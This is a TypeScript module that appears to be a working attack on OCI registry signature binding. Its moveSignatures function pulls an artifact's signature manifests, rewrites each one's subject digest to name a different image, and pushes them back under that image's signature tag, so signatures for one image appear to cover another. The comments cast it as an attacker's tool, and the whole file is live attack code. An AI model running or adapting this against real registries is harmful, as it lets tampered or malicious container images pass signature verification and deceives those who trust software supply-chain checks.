// SPDX-License-Identifier: Apache-2.0
import { createHash } from 'node:crypto';

/** A repository as somebody with write access sees it, by plain HTTP. */
export interface Repository {
  readonly registry: string;
  readonly repository: string;
}

interface Manifest {
  readonly mediaType: string;
  readonly bytes: Buffer;
}

/** The part of an image manifest or index that an attacker rewrites. */
interface Document {
  mediaType: string;
  subject?: { digest: string; size: number };
  manifests?: { digest: string; size: number }[];
}

function url({ registry, repository }: Repository, reference: string): string {
  return `http://${registry}/v2/${repository}/manifests/${reference}`;
}

export async function pullManifest(repository: Repository, reference: string): Promise<Manifest> {
  const accept = 'application/vnd.oci.image.index.v1+json, application/vnd.oci.image.manifest.v1+json';
  const response = await fetch(url(repository, reference), { headers: { accept } });
  if (!response.ok) throw new Error(`GET ${reference}: ${response.status}`);
  return { mediaType: response.headers.get('content-type') ?? '', bytes: Buffer.from(await response.arrayBuffer()) };
}

/** Puts a manifest under a reference, or under its digest, which is returned. */
export async function pushManifest(repository: Repository, manifest: Manifest, tag?: string): Promise<string> {
  const digest = `sha256:${createHash('sha256').update(manifest.bytes).digest('hex')}`;
  const response = await fetch(url(repository, tag ?? digest), {
    method: 'PUT',
    headers: { 'content-type': manifest.mediaType },
    body: new Uint8Array(manifest.bytes),
  });
  if (!response.ok) throw new Error(`PUT ${tag ?? digest}: ${response.status} ${await response.text()}`);
  return digest;
}

/** Lists the signatures of one artifact as signatures of another one, by rewriting the subject of each manifest. */
export async function moveSignatures(repository: Repository, from: string, to: string, size: number): Promise<void> {
  const tagOf = (digest: string): string => digest.replace(':', '-');
  const index = await pullManifest(repository, tagOf(from));
  const listing = JSON.parse(index.bytes.toString()) as Document;
  for (const entry of listing.manifests ?? []) {
    const { mediaType, bytes } = await pullManifest(repository, entry.digest);
    const signature = JSON.parse(bytes.toString()) as Document;
    signature.subject = { ...signature.subject, digest: to, size };
    const rewritten = Buffer.from(JSON.stringify(signature));
    entry.digest = await pushManifest(repository, { mediaType, bytes: rewritten });
    entry.size = rewritten.length;
  }
  await pushManifest(repository, { ...index, bytes: Buffer.from(JSON.stringify(listing)) }, tagOf(to));
}
